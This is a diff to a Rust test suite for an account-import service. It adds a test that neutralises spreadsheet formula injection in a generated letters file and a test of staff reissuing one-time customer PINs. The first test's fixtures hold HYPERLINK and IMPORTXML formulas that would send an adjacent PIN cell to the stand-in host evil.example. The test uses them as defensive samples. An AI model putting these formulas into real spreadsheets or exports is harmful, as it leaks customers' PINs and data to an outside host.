@@ -25,6 +25,8 @@ on_both_backends!(
     the_sample_import_creates_accounts_records_and_links_once,
     bad_rows_are_reported_and_strict_imports_nothing,
     a_one_time_customer_pin_links_one_customer_once_before_it_expires,
+    formulas_in_imported_names_reach_the_letters_file_as_text,
+    staff_reissue_an_unused_customer_pin_and_the_old_one_stops_working,
 );
 
 fn sample(file: &str) -> PathBuf {
@@ -508,5 +510,149 @@ async fn customers_racing_for_one_customer_pin_link_exactly_one_on_postgres() {
             .iter()
             .all(|o| o.is_ok() || *o == Err(Code::FailedPrecondition)),
         "{outcomes:?}"
+    );
+}
+
+/// #17: a business name or customer name that a spreadsheet would run as a formula, next to the
+/// PIN cell, reaches the letters file as text (a leading `'`), and bad rows of a CRLF file are
+/// named by their own line.
+async fn formulas_in_imported_names_reach_the_letters_file_as_text(backend: Backend) {
+    let app = spawn_app(backend).await;
+    let dir = app.database().dir().to_owned();
+    let accounts = dir.join("accounts.csv");
+    let rows = [
+        "legacy_contractor_id,business_name,contact_name,email,phone,street,city,province,postal_code,country",
+        "F-1,\"=HYPERLINK(\"\"http://evil.example/?pin=\"\"&K2,\"\"Open\"\")\",@Ann,ann@good.ca,+1 613-555-0101,-1 Main St,Ottawa,ON,K1P 1J1,CA",
+        "F-2,Plain Builders,Bob Plain,bob@good.ca,+1 613-555-0102,2 Main St,Ottawa,ON,K1P 1J1,CA",
+        "F-3,,No Name,nn@good.ca,+1 613-555-0103,3 Main St,Ottawa,ON,K1P 1J1,CA",
+    ];
+    std::fs::write(&accounts, rows.join("\r\n") + "\r\n").expect("write");
+    let customers = dir.join("customers.csv");
+    std::fs::write(
+        &customers,
+        "legacy_customer_id,name,email\r\nF-P-1,\"=IMPORTXML(CONCAT(\"\"http://evil.example/\"\",K3),\"\"//a\"\")\",eve@example.ca\r\n",
+    )
+    .expect("write");
+    let letters = dir.join("letters.csv");
+    let summary = import(
+        &app,
+        Some(&accounts),
+        Some(&customers),
+        None,
+        &letters,
+        false,
+        Utc::now() + Duration::days(180),
+    )
+    .await;
+    assert_eq!((summary.accounts_added, summary.customers_added), (2, 1));
+    assert_eq!(summary.bad.len(), 1, "{:?}", summary.bad);
+    assert_eq!(
+        summary.bad[0].line, 4,
+        "the row without a name is on line 4 of the CRLF file"
+    );
+    let mut reader = csv::Reader::from_path(&letters).expect("the letters file");
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        let record = record.expect("a row");
+        cells.extend(record.iter().map(str::to_owned));
+    }
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a cell a spreadsheet would run: {cell:?}"
+        );
+    }
+    for neutralised in [
+        "'=HYPERLINK(\"http://evil.example/?pin=\"&K2,\"Open\")",
+        "'@Ann",
+        "'-1 Main St",
+        "'=IMPORTXML(CONCAT(\"http://evil.example/\",K3),\"//a\")",
+    ] {
+        assert!(
+            cells.iter().any(|c| c == neutralised),
+            "{neutralised} in {cells:?}"
+        );
+    }
+    assert!(
+        cells.iter().any(|c| c == "Plain Builders"),
+        "other text is kept"
+    );
+}
+
+/// #17: staff reissue a legacy customer's one-time PIN (a letters file lost, or two imports
+/// naming one file): the new PIN links, the old one is unknown; a linked record and an unknown
+/// one are refused and change nothing.
+async fn staff_reissue_an_unused_customer_pin_and_the_old_one_stops_working(backend: Backend) {
+    use mandate::pb::ReissueCustomerPinRequest;
+
+    let mut app = spawn_app(backend).await;
+    let letters = app.database().dir().join("letters.csv");
+    import_sample(&app, &letters).await;
+    let old = pins(&letters)["MAP-P-2001"].clone();
+    let reissued = app
+        .identity
+        .reissue_customer_pin(ReissueCustomerPinRequest {
+            legacy_customer_id: "MAP-P-2001".into(),
+            valid_days: 30,
+        })
+        .await
+        .expect("a new customer PIN")
+        .into_inner();
+    assert_ne!(reissued.customer_pin, old);
+    let expires = reissued.expire_time.expect("an expiry").seconds;
+    let in_30_days = (Utc::now() + Duration::days(30)).timestamp();
+    assert!((in_30_days - expires).abs() < 120, "valid for 30 days");
+    let sam = app.customer("sam").await.customer_id;
+    expect_code(
+        app.identity
+            .link_legacy_customer(as_customer(
+                &sam,
+                LinkLegacyCustomerRequest { customer_pin: old },
+            ))
+            .await,
+        Code::NotFound,
+    );
+    app.identity
+        .link_legacy_customer(as_customer(
+            &sam,
+            LinkLegacyCustomerRequest {
+                customer_pin: reissued.customer_pin,
+            },
+        ))
+        .await
+        .expect("the new PIN links");
+    let before = app.revision_counter().await;
+    let used = expect_code(
+        app.identity
+            .reissue_customer_pin(ReissueCustomerPinRequest {
+                legacy_customer_id: "MAP-P-2001".into(),
+                valid_days: 0,
+            })
+            .await,
+        Code::FailedPrecondition,
+    );
+    assert!(used.message().contains(&sam), "{used:?}");
+    expect_code(
+        app.identity
+            .reissue_customer_pin(ReissueCustomerPinRequest {
+                legacy_customer_id: "MAP-P-9999".into(),
+                valid_days: 0,
+            })
+            .await,
+        Code::NotFound,
+    );
+    crate::helpers::expect_invalid(
+        app.identity
+            .reissue_customer_pin(ReissueCustomerPinRequest {
+                legacy_customer_id: "MAP-P-2002".into(),
+                valid_days: 5000,
+            })
+            .await,
+        &["valid_days"],
+    );
+    assert_eq!(
+        app.revision_counter().await,
+        before,
+        "refusals change nothing"
     );
 }
